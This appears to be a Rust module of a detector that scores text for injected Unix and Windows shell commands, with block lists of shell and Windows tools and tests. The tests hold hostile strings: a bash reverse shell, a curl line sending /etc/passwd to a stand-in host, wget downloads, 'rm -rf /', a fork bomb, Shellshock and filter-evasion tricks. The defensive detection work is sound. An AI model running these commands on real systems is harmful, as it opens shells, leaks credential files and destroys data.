//! Commands of Unix and Windows shells.
//!
//! A command is a name of the table where a shell would look for one: where the text begins, or behind `;`, `|`, `&`,
//! a line's end, `` ` `` or `$(`. What it weighs depends on what follows: an option, a path or an address, or words.

mod command;
mod expansion;
mod names;
mod windows;

use self::command::{Argument, Command};
use self::names::{Known, RUNNERS, SHORT};
use super::Words;
use super::around::{
    NEAR, after_prose, ends, evidence, first, from, in_prose, last, leads, name, weigh, words,
};
use crate::list::List;
use crate::spot::{is_space, is_word, skip_space};
use crate::{Evidence, Spot};

pub(super) const WORDS: &[Words] = &[
    Words {
        list: "",
        verify: beginning,
    },
    Words {
        list: "; | &",
        verify: separated,
    },
    Words {
        list: "\n",
        verify: line,
    },
    Words {
        list: "`",
        verify: backquoted,
    },
    Words {
        list: "$( <( >( ${`",
        verify: expansion::substituted,
    },
    Words {
        list: "$(( $[",
        verify: expansion::computed,
    },
    Words {
        list: "${",
        verify: expansion::expanded,
    },
    Words {
        list: "$ifs ${ifs",
        verify: expansion::blank,
    },
    Words {
        list: "{",
        verify: expansion::braces,
    },
    Words {
        list: "/bin/ /sbin/",
        verify: program,
    },
    Words {
        list: "/b?n /?in /bi? /b?? /??n /??? /b*/ /bi*/ /b*n/ /[b]in /b[i]n /bi[n] /e?c /?tc /et? /e?? /??c /et*/ /e*/ /e*c/ /[e]tc \
               /e[t]c /et[c] /us? /u?r /u?? /us*/ /u*/ /bin/ /etc/ /usr/bin/",
        verify: expansion::patterned,
    },
    Words {
        list: "/dev/tcp/ /dev/udp/",
        verify: socket,
    },
    Words {
        list: "0>&1 2>&1 >&/dev >/dev/null &>/dev <<<",
        verify: redirected,
    },
    Words {
        list: "(){ () )",
        verify: expansion::function,
    },
    Words {
        list: "bash sh zsh ksh nc ncat socat",
        verify: interactive,
    },
    Words {
        list: "alias",
        verify: alias,
    },
    Words {
        list: "~+ ~- !-",
        verify: expansion::history,
    },
    Words {
        list: "cmd powershell pwsh",
        verify: windows::shell,
    },
    Words {
        list: "certutil wmic rundll32 regsvr32 bitsadmin mshta cscript schtasks",
        verify: windows::tool,
    },
    Words {
        list: "if",
        verify: windows::condition,
    },
    Words {
        list: "for",
        verify: windows::repetition,
    },
    Words {
        list: "invoke- get- set- new- start- stop- out- write- add- import- export- convertto- convertfrom- remove- copy- \
               enter- select- test- iex",
        verify: windows::cmdlet,
    },
    Words {
        list: "%systemroot% %systemdrive% %comspec% %windir% %programfiles% %userprofile% %appdata% -encodedcommand \
               .downloadstring( .downloadfile( net.webclient frombase64string( hkey_local_machine\\ hkey_current_user\\ hklm\\ \
               hkcu\\",
        verify: windows::part,
    },
];

const COMMAND: &str = "command";
const SEPARATED: &str = "separated command";
const HIDDEN: &str = "disguised command";
const SUBSTITUTED: &str = "command substitution";

/// A command where the text begins.
fn beginning(spot: &Spot<'_>) -> Option<Evidence> {
    weigh_first(spot, spot.after())
}

fn weigh_first(spot: &Spot<'_>, text: &[u8]) -> Option<Evidence> {
    let command = Command::read(text, spot.work());
    let Some(known) = command.known() else {
        return expression(text);
    };
    let argument = Argument::read(command.rest, spot.work());
    if command.hidden || argument == Argument::Hidden {
        return evidence(HIDDEN, Evidence::SURE);
    }
    let score = match (known, argument) {
        (_, Argument::Sure) if command.has_path => Evidence::SURE,
        (Known::Command, Argument::Sure) => Evidence::LIKELY,
        (Known::Word, Argument::Sure) if is_dangerous(&command) => Evidence::LIKELY,
        (Known::Word, Argument::Sure) if words(first(command.rest, NEAR)) < 4 => {
            Evidence::LIKELY - 5
        }
        (Known::Word, Argument::Sure) => Evidence::SUSPECT,
        (_, Argument::None | Argument::Likely) if command.has_path => Evidence::LIKELY,
        (Known::Command, Argument::Likely | Argument::Variable) => Evidence::LIKELY - 5,
        (Known::Word, Argument::Likely) if runs(spot, &command) => Evidence::LIKELY - 5,
        (Known::Word, Argument::Likely | Argument::Variable) => Evidence::SUSPECT,
        (Known::Command, Argument::None) => Evidence::HINT,
        (Known::Command, Argument::Word)
            if command.name().contains(&b'-') && is_short(command.rest) =>
        {
            Evidence::LIKELY - 5
        }
        (Known::Command, Argument::Word) => Evidence::HINT,
        (Known::Word, Argument::None | Argument::Word) => 0,
        (_, Argument::Hidden) => Evidence::SURE,
    };
    evidence(COMMAND, score)
}

/// What a shell runs before it has read a name: `() {`, which old ones take for a function.
fn expression(text: &[u8]) -> Option<Evidence> {
    let inside = skip_space(first(text, 16).strip_prefix(b"()")?);
    let found = inside.starts_with(b"{");
    found.then_some(Evidence::new("function in a variable", Evidence::SURE))
}

/// Whether it runs what follows, and that is a command.
fn runs(spot: &Spot<'_>, command: &Command<'_>) -> bool {
    RUNNERS.has(command.name()) && {
        let next = Command::read(command.rest, spot.work());
        next.known().is_some_and(|known| {
            known == Known::Command || Argument::read(next.rest, spot.work()) >= Argument::Likely
        })
    }
}

/// Whether a name that is a word is used to read, write or run in attacks rather than in sentences.
fn is_dangerous(command: &Command<'_>) -> bool {
    const {
        List::new(
            "cat ls id rm mv cp nc sh bash cmd ps tar dd sed vi vim ping chmod dir del echo ip",
        )
    }
    .has(command.name())
}

/// A command behind a separator.
fn separated(spot: &Spot<'_>) -> Option<Evidence> {
    let text = spot.after();
    // The second of two is looked at.
    if matches!(text.first(), Some(b'|' | b'&' | b';')) {
        return None;
    }
    weigh_separated(spot, text)
}

fn weigh_separated(spot: &Spot<'_>, text: &[u8]) -> Option<Evidence> {
    let command = Command::read(text, spot.work());
    let Some(known) = command.known() else {
        return variable(spot, skip_space(first(text, 32)));
    };
    let argument = Argument::read(command.rest, spot.work());
    if (command.hidden && (known == Known::Command || argument != Argument::Word))
        || argument == Argument::Hidden
    {
        return evidence(HIDDEN, Evidence::SURE);
    }
    let score = match (known, argument) {
        (_, Argument::Sure) if command.has_path => Evidence::SURE,
        (_, Argument::Sure) => Evidence::SURE,
        (_, Argument::Likely) if runs(spot, &command) => Evidence::SURE,
        (_, Argument::None) if command.has_path => Evidence::SURE,
        (Known::Command, Argument::Likely | Argument::Variable) => Evidence::SURE,
        (Known::Word, Argument::Likely | Argument::Variable) => Evidence::LIKELY,
        (Known::Word, Argument::None) if is_fed(spot, &command) => Evidence::LIKELY,
        (Known::Command, Argument::None) if is_one_of_many(spot) => Evidence::SUSPECT,
        (Known::Command, Argument::None) => Evidence::LIKELY,
        (Known::Command, Argument::Word) if command.name().contains(&b'-') => Evidence::LIKELY,
        (Known::Command, Argument::Word) => Evidence::SUSPECT,
        (Known::Word, Argument::None) if is_last(spot, &command) => Evidence::LIKELY,
        (Known::Word, Argument::None) if SHORT.has(command.name()) => Evidence::SUSPECT,
        (Known::Word, Argument::None) => Evidence::HINT,
        (Known::Word, Argument::Word) => 0,
        (_, Argument::Hidden) => Evidence::SURE,
    };
    let told = score > 0 && (after_prose(spot) || is_entity(spot));
    let score = match score {
        Evidence::SURE if told && known == Known::Command => Evidence::LIKELY,
        Evidence::SURE if told => Evidence::SUSPECT,
        score if told => score / 3,
        score => score,
    };
    evidence(SEPARATED, score)
}

/// Whether so many separators stand before that this is a list.
fn is_one_of_many(spot: &Spot<'_>) -> bool {
    spot.work().add(spot.before().len());
    spot.before()
        .iter()
        .filter(|byte| b";|".contains(byte))
        .count()
        > 2
}

/// Whether what stands before is handed to an interpreter: `| sh`.
fn is_fed(spot: &Spot<'_>, command: &Command<'_>) -> bool {
    let next = skip_space(first(command.rest, 8)).first();
    spot.word() == b"|"
        && const { List::new("sh bash zsh ash ksh dash python perl php ruby node") }
            .has(command.name())
        && next != Some(&b'|')
}

/// Whether it is three words at most.
fn is_short(rest: &[u8]) -> bool {
    rest.len() < 40 && rest.iter().filter(|byte| is_space(**byte)).count() < 4
}

/// Whether the command ends the text, behind its only separator.
fn is_last(spot: &Spot<'_>, command: &Command<'_>) -> bool {
    spot.work().add(spot.before().len());
    let parts = |byte: &u8| b";|&".contains(byte);
    let before = spot.before();
    let doubled = before.strip_suffix(spot.word()).unwrap_or(before);
    SHORT.has(command.name()) && ends(command.rest) && !doubled.iter().any(parts)
}

/// A variable in place of a command, that was set before or has something to work on: `$c $a$b`.
fn variable(spot: &Spot<'_>, text: &[u8]) -> Option<Evidence> {
    let (word, after) = name(text.strip_prefix(b"$")?);
    let blank = after.first().is_none_or(|byte| is_space(*byte));
    if word.is_empty() || !blank {
        return None;
    }
    let found = Argument::read(after, spot.work()) >= Argument::Variable || is_named(spot, word);
    found.then_some(Evidence::new("variable as a command", Evidence::LIKELY))
}

/// Whether a word stands before by itself.
fn is_named(spot: &Spot<'_>, word: &[u8]) -> bool {
    let before = spot.before();
    spot.work().add(before.len());
    let parts = |byte: Option<&u8>| byte.is_none_or(|byte| b";|&\n= ".contains(byte));
    let mut starts = (0..before.len()).filter(|at| before.get(*at) == word.first());
    starts.any(|at| {
        let end = from(before, at).strip_prefix(word);
        let begins = parts(at.checked_sub(1).and_then(|last| before.get(last)));
        begins && end.is_some_and(|end| parts(end.first()))
    })
}

/// Whether the separator ends an entity of HTML.
fn is_entity(spot: &Spot<'_>) -> bool {
    let before = last(spot.before(), 10);
    let start = before.iter().rposition(|byte| *byte == b'&');
    spot.word() == b";"
        && start.is_some_and(|start| {
            from(before, start)
                .iter()
                .all(|byte| is_word(*byte) || b"&#".contains(byte))
        })
}

/// A command in a line of its own.
fn line(spot: &Spot<'_>) -> Option<Evidence> {
    let text = spot.after();
    if text.first() == Some(&b'\n') {
        return None;
    }
    let found = weigh_separated(spot, text)?;
    // A text of several lines is more often somebody's notes than one value with a line's end in it.
    let short = spot.before().len() < 40 && !spot.before().contains(&b' ');
    match short {
        true => Some(found),
        false => evidence(found.kind, (found.score / 2).min(Evidence::HINT)),
    }
}

/// A command between backquotes, which also are how names are set apart in notes.
fn backquoted(spot: &Spot<'_>) -> Option<Evidence> {
    let text = spot.after();
    let end = text.iter().position(|byte| *byte == b'`')?;
    let (inside, after) = text.split_at(end);
    let command = Command::read(inside, spot.work());
    let known = command.known()?;
    let argument = Argument::read(command.rest, spot.work());
    let before = last(spot.before(), 1).first().copied();
    // Another pair ends there.
    let tight = before.is_none_or(|byte| !is_space(byte) && !b"(`*_[".contains(&byte));
    let after = from(after, 1);
    let told = !tight
        || !(ends(after)
            || after
                .first()
                .is_some_and(|byte| b";|&'\"$})>#".contains(byte)))
        || after_prose(spot);
    let score = match (known, argument) {
        _ if command.hidden => Evidence::SURE,
        (_, Argument::Hidden) => Evidence::SURE,
        (_, Argument::Sure | Argument::Likely) => Evidence::SURE,
        (Known::Command, _) => Evidence::LIKELY,
        (Known::Word, Argument::None) if SHORT.has(command.name()) => Evidence::LIKELY,
        (Known::Word, _) => Evidence::HINT,
    };
    let hidden = command.hidden || argument == Argument::Hidden;
    evidence(SUBSTITUTED, if told && !hidden { score / 6 } else { score })
}

/// A program by its path.
fn program(spot: &Spot<'_>) -> Option<Evidence> {
    let command = Command::read(spot.after(), spot.work());
    command.known()?;
    let argument = Argument::read(command.rest, spot.work());
    let directory = last(spot.before(), 12);
    let directory = directory
        .strip_suffix(b"/usr")
        .or(directory.strip_suffix(b"/usr/local"))
        .unwrap_or(directory);
    // `#!/bin/sh`: a script that somebody sends.
    if directory.ends_with(b"!") {
        return evidence("script", Evidence::SUSPECT);
    }
    let begins = directory.is_empty()
        || directory
            .last()
            .is_some_and(|byte| !is_word(*byte) && !b" ./".contains(byte));
    let score = match argument {
        _ if command.hidden => Evidence::SURE,
        Argument::Hidden => Evidence::SURE,
        Argument::Sure if !in_prose(spot) => Evidence::LIKELY,
        Argument::Sure => Evidence::SUSPECT,
        _ if begins && !in_prose(spot) => Evidence::LIKELY - 5,
        _ => Evidence::HINT,
    };
    evidence("path of a program", score)
}

fn socket(spot: &Spot<'_>) -> Option<Evidence> {
    evidence(
        "network device of bash",
        weigh(spot, Evidence::SURE, Evidence::SUSPECT),
    )
}

fn redirected(spot: &Spot<'_>) -> Option<Evidence> {
    let more =
        spot.word() == b"<<<" && (spot.after().starts_with(b"<") || spot.before().ends_with(b"<"));
    (!more).then_some(Evidence::new("redirection", Evidence::SUSPECT - 5))
}

/// A shell or a connection with options that hand it over: `bash -i`, `sh -c`, `nc -e`.
fn interactive(spot: &Spot<'_>) -> Option<Evidence> {
    let after = spot.after().strip_prefix(b" -")?;
    let (options, rest) = name(first(after, 12));
    let wanted: &[u8] = match spot.word() {
        b"nc" | b"ncat" => b"ecl",
        _ => b"ic",
    };
    let found = options.len() < 6
        && options.iter().any(|byte| wanted.contains(byte))
        && rest.first().is_none_or(|byte| is_space(*byte));
    let score = if in_prose(spot) || after_prose(spot) {
        Evidence::HINT
    } else {
        Evidence::LIKELY - 5
    };
    found.then_some(Evidence::new("shell handed over", score))
}

/// A name for another command: `alias x=`.
fn alias(spot: &Spot<'_>) -> Option<Evidence> {
    let after = spot.after().strip_prefix(b" ")?;
    let (word, rest) = name(first(skip_space(after), 24));
    let found = !word.is_empty() && matches!(rest, [b'=', next, ..] if !is_space(*next));
    let begins = leads(spot)
        || last(spot.before(), 2)
            .iter()
            .any(|byte| b";|&`(\n".contains(byte));
    let score = if begins {
        Evidence::LIKELY
    } else {
        Evidence::HINT
    };
    found.then_some(Evidence::new("alias", score))
}

#[cfg(test)]
mod tests {
    use crate::Class;
    use crate::detector::found;

    fn is_found(text: &str) -> bool {
        found(text).iter().any(|(class, ..)| *class == Class::Shell)
    }

    #[test]
    fn commands_are_found() {
        for attack in [
            "a;cat /etc/passwd",
            "x|id",
            "x; whoami",
            "a && wget http://x.example/y",
            "1.1.1.1; ping -c 3 10.0.0.1",
            "`id`",
            "a`whoami`",
            "$(id)",
            "x=$(cat /flag)",
            "curl -d @/etc/passwd http://x.example",
            "/bin/sh -c id",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "a\nid -a",
            "a=nc&&$a -nlvp 555",
            "x;g=adduser;$g pizza",
            "() { :; }; echo x",
            ":(){ :|:& };:",
            "alias ls=/bin/rm",
            "echo x | sh",
            "ifconfig;. rm -rf /",
        ] {
            assert!(is_found(attack), "{attack}");
        }
    }

    #[test]
    fn what_a_shell_undoes_hides_nothing() {
        for attack in [
            "c\\at /x",
            "c''at x",
            "a;w'h'oami",
            "cat$IFS/x",
            "cat${IFS}/x",
            "a;c$@at /x",
            "/b?n/c?t /x",
            "/etc/p?sswd",
            "/et*/passwd",
            "/???/??t",
            "{cat,/etc/passwd}",
            "{,ifconfig,eth0}",
            "c{a,un}t",
            "${PATH:0:1}",
            "$((1+1))",
            "cat<<<x",
        ] {
            assert!(is_found(attack), "{attack}");
        }
    }

    #[test]
    fn commands_of_windows_are_found() {
        for attack in [
            "x&dir c:\\",
            "cmd.exe /c whoami",
            "cmd /c dir",
            "powershell -enc AAAA",
            "x | ipconfig /all",
            "if exist c:\\x del y",
            "if not \"%a%\"==\"b\" echo x",
            "if 1 equ 1 dir",
            "for /f %x in (a) do dir",
            "for %i in (a b) do echo",
            "certutil -urlcache -f http://x.example/y",
            "Invoke-WebRequest http://x.example",
            "Get-ChildItem -Recurse",
        ] {
            assert!(is_found(attack), "{attack}");
        }
    }

    #[test]
    fn words_and_code_are_not() {
        for harmless in [
            "cat",
            "cat food; dog food",
            "find us on the map",
            "time is of the essence",
            "Sort by name & date",
            "echo",
            "curl",
            "R&D | Test",
            "who's there",
            "it's; can't",
            "Use `grep -r` to find it.",
            "| id | name |",
            "id;name;date",
            "text/html;q=0.9",
            "if x == y { return; }",
            "if (a == b) sort(c);",
            "for x in y",
            "$(document).ready()",
            "$(CC) -o x",
            "fn f(x: &Type) -> Option<&Type> {",
            "id <= self.max",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "curl/7.81.0",
            "\"\"\"Set a task.",
            "{a,b}",
            "$5 & more",
            "head of sales",
            "Set-Cookie",
            "get-together",
        ] {
            assert!(!is_found(harmless), "{harmless}: {:?}", found(harmless));
        }
    }
}
